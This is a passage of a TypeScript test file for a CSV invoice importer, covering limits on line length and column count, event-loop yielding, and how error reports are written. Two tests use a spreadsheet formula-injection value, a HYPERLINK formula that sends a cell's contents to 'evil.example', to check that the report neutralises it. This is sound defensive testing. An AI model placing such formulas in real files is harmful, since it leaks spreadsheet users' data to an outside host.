    await expect(run(`${wideHeader(2 << 20)}\n`)).rejects.toMatchObject({ code: 'csv.malformed', details: { line: 1 } });
  });

  it('gives the event loop back while it reads a file handed over in one piece, at least once per 64 KiB', async () => {
    // Before, a file in one chunk was read to its end in promise callbacks alone: 4 MiB of empty lines (spreadsheet rows
    // skipped one by one) held every other request of the process for seconds, and 64 MiB for minutes.
    const file = Buffer.from(`${HEADER}\n${'\n'.repeat(2 << 20)}1,Acme,2024-01-02,Net 30,10.00,0,Pending,USD\n`);
    let turns = 0;
    let reading = true;
    const turn = () => {
      turns += 1;
      if (reading) setImmediate(turn);
    };
    setImmediate(turn);
    const items: unknown[] = [];
    try {
      for await (const item of readCsvRows(Readable.from([file]))) items.push(item);
    } finally {
      reading = false;
    }
    expect(items).toEqual([{ header: HEADER.split(','), delimiter: ',' }, { row: (2 << 20) + 2, values: ['1', 'Acme', '2024-01-02', 'Net 30', '10.00', '0', 'Pending', 'USD'] }]);
    expect(turns).toBeGreaterThanOrEqual(32);
  });

  it('reads a line of exactly 1 MiB, line break aside, whole or in chunks', async () => {
    const start = '1,';
    const end = ',2024-01-02,Net 30,10.00,0,Pending,USD';
    const line = `${start}${'y'.repeat((1 << 20) - start.length - end.length)}${end}`;
    expect(line).toHaveLength(1 << 20);
    const items = await readWhole(`${HEADER}\r\n${line}\r\n`);
    expect(items).toHaveLength(2);
    expect((items[1] as { values: string[] }).values[1]).toHaveLength((1 << 20) - start.length - end.length);
    const { rows } = await run(`${HEADER}\r\n${line}\r\n`);
    expect(rows.map((row) => [row.row, row.problems.map((problem) => problem.code)])).toEqual([[2, ['text.too_long']]]);
  });

  it('checks a whole file\'s lines at once, as the API does before it answers, measuring them as the reader does', () => {
    const row = '1,Acme,2024-01-02,Net 30,10.00,0,Pending,USD';
    const lineOf = (text: string) => {
      try {
        checkCsvFile(Buffer.isBuffer(text) ? text : Buffer.from(text));
        return 'read';
      } catch (error) {
        return (error as CsvError).details['line'];
      }
    };
    const rows = Array.from({ length: 80_000 }, () => row).join('\n');
    expect(lineOf(`\uFEFF${HEADER}\n${rows}\n`)).toBe('read');
    expect(lineOf(`${HEADER}\n${rows}\n${row}${'y'.repeat(1 << 20)}\n${row}\n`)).toBe(80_002);
    expect(lineOf(`${HEADER}\n${rows}\n${row}${'y'.repeat(1 << 20)}`)).toBe(80_002);
    // Exactly 1 MiB, its `\r\n` aside; 1 MiB of characters in more bytes (é is two); a lone `\r` as line break.
    const full = 'y'.repeat(1 << 20);
    expect(lineOf(`${HEADER}\r\n${rows}\r\n${full}\r\n${row}\r\n`)).toBe('read');
    expect(lineOf(`${HEADER}\n${'é'.repeat(1 << 20)}\n${row}\n`)).toBe('read');
    expect(lineOf(`${HEADER}\n${'é'.repeat((1 << 20) + 1)}\n${row}\n`)).toBe(2);
    expect(lineOf(`${HEADER}\r${row}\r${full}y\r${row}\r`)).toBe(3);
    expect(lineOf(`${HEADER}\r${row}\r${full}\r${row}\r`)).toBe('read');
    // UTF-16 with its mark, as Excel's "Unicode text".
    expect(lineOf(Buffer.from(`\uFEFF${HEADER}\r\n${row}\r\n${full}y\r\n`, 'utf16le') as unknown as string)).toBe(3);
    expect(lineOf(Buffer.from(`\uFEFF${HEADER}\r\n${row}\r\n${full}\r\n`, 'utf16le') as unknown as string)).toBe('read');
  });

  it(`refuses a header of more than ${500} columns, and reads one of ${500}`, async () => {
    const columns = (count: number) => [...HEADER.split(','), ...Array.from({ length: count - 8 }, (_, index) => `Extra ${index}`)].join(',');
    const refused = await readWhole(`${columns(501)}\n`).then(
      (items) => `read, ${items.length} items`,
      (error: CsvError) => error,
    );
    expect(refused).toMatchObject({ code: 'csv.too_many_columns', details: { columns: 501, maxColumns: 500 } });
    expect((refused as Error).message.length).toBeLessThan(300);
    const [header] = (await readWhole(`${columns(500)}\n`)) as { header: string[] }[];
    expect(header?.header).toHaveLength(500);
  });

  it('names at most 100 columns, each cut to 100 characters, when it refuses a header, and counts them all', () => {
    const long = `Memo ${'m'.repeat(300)}`;
    const header = ['Invoice #', 'Customer', long, ...Array.from({ length: 400 }, (_, index) => `Extra ${index}`)];
    const refused = (() => {
      try {
        return columnLayout(header);
      } catch (error) {
        return error as CsvError;
      }
    })() as CsvError;
    expect(refused.code).toBe('csv.missing_columns');
    expect(refused.details).toMatchObject({ columns: 403, header: expect.any(Array) });
    const echoed = refused.details['header'] as string[];
    expect(echoed).toHaveLength(100);
    expect(echoed.slice(0, 3)).toEqual(['Invoice #', 'Customer', `${long.slice(0, 99)}…`]);
    expect(JSON.stringify(refused.details).length).toBeLessThan(5_000);
    const duplicate = (() => {
      try {
        const named = `Invoice ${'#'.repeat(300)}`;
        return columnLayout([named, 'Invoice Number', 'Customer', 'Date', 'Terms', 'Total', 'Status', 'Currency'], { columns: { [named]: 'invoiceNumber' } });
      } catch (error) {
        return error as CsvError;
      }
    })() as CsvError;
    expect(duplicate.code).toBe('csv.duplicate_column');
    expect(duplicate.message.length).toBeLessThan(300);
    expect(duplicate.details['columns']).toEqual([`Invoice ${'#'.repeat(91)}…`, 'Invoice Number']);
  });

  it('keeps a row of more values than any header can have as its text, not as a million values', async () => {
    // A 1 MiB line of commas is 1,048,577 values: kept as such for the error report, its refused row's document would
    // near 16 MB (and its JSON page 3 MB per row).
    const row = `1,Acme,2024-01-02,Net 30,10.00,0,Pending,USD${','.repeat(600_000)}`;
    const { rows } = await run(`${HEADER}\n${row}\n2,Acme,2024-01-02,Net 30,10.00,0,Pending,USD\n`);
    expect(rows.map((each) => [each.row, each.outcome, each.problems.map((problem) => problem.code), each.values.length])).toEqual([
      [2, 'refused', ['csv.column_count'], 1],
      [3, 'imported', [], 8],
    ]);
    expect(rows[0]?.values[0]).toBe(row);
    expect(rows[0]?.problems[0]?.message).toBe('the row has 600008 values, the header 8 columns');
  });
});

describe('error reports', () => {
  const refused: RowReport = {
    row: 7,
    invoiceNumber: 'A-7',
    outcome: 'refused',
    changes: [],
    problems: [{ field: 'total', column: 'Bill Total', code: 'import.negative_amount', message: '-5.00 is negative' }],
    values: ['A-7', 'Acme, Inc.', '2024-01-02', 'Net 30', '-5.00', '0', 'Pending', 'USD'],
  };

  it('as CSV: the file\'s own columns to fix and send again, then the row and its reasons', () => {
    let out = '';
    const writer = new ErrorReportWriter('csv', HEADER.split(','), (chunk) => (out += chunk));
    writer.add({ ...refused, row: 2, outcome: 'imported', problems: [] });
    writer.add(refused);
    writer.end();
    expect(parse(out)).toEqual([
      [...HEADER.split(','), 'row', 'errors'],
      [...refused.values, '7', 'Bill Total: -5.00 is negative [import.negative_amount]'],
    ]);
  });

  it('as CSV: puts a quote before a value a spreadsheet would run, which reading the report back takes off; amounts stay as they are', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&B3,"Open")';
    const values = ['A-7', formula, '2024-01-02', 'Net 30', '-5.00', '0', 'Pending', 'USD'];
    let out = '';
    const writer = new ErrorReportWriter('csv', HEADER.split(','), (chunk) => (out += chunk));
    writer.add({ ...refused, values });
    writer.end();
    const [, written] = parse(out) as string[][];
    expect(written?.slice(0, 8)).toEqual(['A-7', `'${formula}`, '2024-01-02', 'Net 30', '-5.00', '0', 'Pending', 'USD']);
    const read: unknown[] = [];
    for await (const item of readCsvRows(Readable.from([out]))) read.push(item);
    expect(read[1]).toEqual({ row: 2, values: [...values, '7', 'Bill Total: -5.00 is negative [import.negative_amount]'] });
  });

  it('gives a refused row back through its report unchanged: fixed and sent again, it imports with the text it had', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&B3,"Open")';
    const file = `${HEADER}\n1,"${formula.replaceAll('"', '""')}",2024-01-02,Net 30,-5.00,0,Pending,USD\n2,@Acme,2024-01-02,Net 30,-1.00,0,Pending,USD\n`;
    let report = '';
    const writer = new ErrorReportWriter('csv', HEADER.split(','), (chunk) => (report += chunk));
    const first = await run(file);
    first.rows.forEach((row) => writer.add(row));
    writer.end();
    expect(first.report.refused).toBe(2);
    expect(report).not.toMatch(/(^|,)"?[=@]/m);
    const corrected = report.replace('-5.00', '5.00').replace('-1.00', '1.00');
    const { received } = await run(corrected);
    expect(received.map((receivable) => receivable.customerName)).toEqual([formula, '@Acme']);
  });

  it('as CSV: shows a control character as its Unicode picture, so that the report holds none (audit `files`, F4)', () => {
    // Before, a NUL of the file was written back as it was: a report some tools cut short at it.
    let out = '';
    const writer = new ErrorReportWriter('csv', [...HEADER.split(','), 'Memo\u0001'], (chunk) => (out += chunk));
    writer.add({ ...refused, values: [...refused.values, 'copied from\u0000legacy\u007F, tab\tkept'] });
    writer.end();
    // eslint-disable-next-line no-control-regex -- what the report must not hold
    expect(out).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/);
    const [head, written] = parse(out) as string[][];
    expect(head?.[8]).toBe('Memo␁');
    expect(written?.[8]).toBe('copied from␀legacy␡, tab\tkept');
  });

  it('as JSON: one entry per refused row', () => {
    let out = '';
    const writer = new ErrorReportWriter('json', HEADER.split(','), (chunk) => (out += chunk));
    writer.add(refused);
    writer.add({ ...refused, row: 9 });
    writer.end();
    expect(JSON.parse(out)).toEqual([
      { row: 7, invoiceNumber: 'A-7', problems: refused.problems },
      { row: 9, invoiceNumber: 'A-7', problems: refused.problems },
    ]);
    let empty = '';
    const none = new ErrorReportWriter('json', [], (chunk) => (empty += chunk));
    none.end();
    expect(JSON.parse(empty)).toEqual([]);
  });
});
